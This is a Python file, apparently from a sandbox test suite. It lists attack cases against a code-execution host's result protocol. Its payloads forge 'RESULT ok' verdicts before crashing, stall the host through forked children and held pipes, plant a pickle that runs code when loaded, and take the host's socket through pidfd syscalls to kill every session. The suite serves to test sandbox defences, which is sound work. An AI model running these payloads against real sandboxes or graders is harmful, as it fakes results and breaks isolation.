"""Speaking for the host's own machinery."""

from hostile.record import Attack, Off


def _attack(
    name: str, aim: str, code: str, *, won: str = "believed", off: Off = Off.BARE, timeout_s: float = 45.0, **more: str
) -> Attack:
    family = "protocol forgery"
    return Attack(name=name, family=family, aim=aim, code=code, won=won, off=off, timeout_s=timeout_s, **more)


PROTOCOL = (
    _attack(
        "verdict_printed",
        "print the line that ends a cell, and raise",
        "print('\\nRESULT ok', flush=True); time.sleep(0.1); 1 / 0",
    ),
    _attack(
        "verdict_before_death",
        "print the line that ends a cell, and die",
        "os.write(1, b'\\nRESULT ok\\n'); os._exit(1)",
    ),
    _attack(
        "verdict_by_child",
        "have a child print it while one sleeps beyond the deadline",
        "if os.fork() == 0: named('<<token>>'); os.write(1, b'\\nRESULT ok\\n'); os._exit(0)\ntime.sleep(60)",
        timeout_s=1.0,
    ),
    _attack(
        "verdict_on_every_descriptor",
        "write it, and the sandbox's own words, on every descriptor",
        "for at in range(1, 100):\n    for word in (b'\\nRESULT ok\\n', b'+', bytes(16) + b'+'):\n"
        "        try: os.write(at, word)\n        except OSError: pass\nos._exit(1)",
    ),
    _attack(
        "verdict_ahead",
        "say now that the next cell will do well",
        "print('x\\nRESULT ok\\ny\\nRESULT ok', flush=True)\nframe, word = sys._getframe(), None\n"
        "while frame and word is None:\n"
        "    word = getattr(frame.f_locals.get('cell'), 'nonce', None); frame = frame.f_back\n"
        "if word is not None:\n    def later():\n        time.sleep(0.3); os.write(3, word + b'+'); os.write(3, b'+')\n"
        "    threading.Thread(target=later).start()",
        won="late_word",
    ),
    _attack(
        "pickled_verdict",
        "leave a file that runs code in whoever loads it",
        "import pickle\nclass Bad:\n    def __reduce__(self): return os.symlink, ('x', '<<new_temporary>>')\n"
        "open('result.pkl', 'wb').write(pickle.dumps(Bad()))",
        won="host_ran",
        path="result.pkl",
    ),
    _attack(
        "pipe_held_open",
        "have a child hold the output open, so that the host waits for it and not for the deadline",
        "if os.fork() == 0:\n    named('<<token>>'); time.sleep(3)\n"
        "    os.write(1, b'left over by its own end'); os._exit(0)\ntime.sleep(60)",
        won="held_up",
        timeout_s=0.6,
    ),
    _attack(
        "orders_to_the_zygote",
        "take the host's own end of its channel, and order the death of all sessions",
        "import json\nhost = call(434, <<host>>, 0)\nfor at in range(3, 64):\n"
        "    try: one = socket.socket(fileno=call(438, host, at, 0))\n    except OSError: continue\n"
        "    for number in range(1, 400):\n"
        "        try: one.send(json.dumps({'op': 'kill', 'id': number}).encode(), 0x40)\n"
        "        except OSError: break\n    one.detach()\n<<sibling>>",
        won="sibling_dead",
        off=Off.USER,
        needs="no Yama",
    ),
)
